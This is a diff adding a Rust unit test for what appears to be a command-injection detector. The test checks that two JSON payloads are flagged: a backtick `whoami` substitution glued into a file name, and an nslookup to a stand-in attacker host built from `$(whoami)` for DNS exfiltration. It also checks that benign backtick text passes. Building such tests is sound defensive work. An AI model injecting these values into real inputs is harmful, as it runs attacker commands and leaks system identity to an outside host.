@@ -1289,3 +1289,23 @@ fn written_sql_that_empties_or_cuts_short() {
         );
     }
 }
+
+/// Backtick substitution glued inside a name, and a lookup whose host name
+/// a substitution builds, count in a parameter.
+#[test]
+fn glued_substitution_and_lookup_exfiltration() {
+    let d = detector();
+    for body in [
+        r#"{"input":"invoice_`whoami`.docx","output_dir":"out"}"#,
+        r#"{"domain":"example.com `nslookup $(whoami).oob.attacker.example`"}"#,
+    ] {
+        assert!(d.scan(body.as_bytes()).threat, "{body}");
+    }
+    for text in [
+        "Use `my_var` here",
+        "the config.`key` field",
+        "run `date` now",
+    ] {
+        assert!(!d.scan(text.as_bytes()).threat, "{text}");
+    }
+}
